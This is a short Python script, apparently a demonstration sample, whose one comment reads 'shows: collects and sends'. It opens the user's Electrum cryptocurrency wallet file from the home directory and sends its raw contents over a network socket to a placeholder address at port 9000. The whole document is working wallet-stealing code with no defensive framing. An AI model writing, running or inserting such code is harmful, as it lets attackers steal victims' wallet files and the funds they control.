# shows: collects and sends
import socket, os

with open(os.path.expanduser("~/.electrum/wallets/default_wallet"), "rb") as w:
    data = w.read()
s = socket.create_connection(("198.51.100.9", 9000))
s.sendall(data)
s.close()
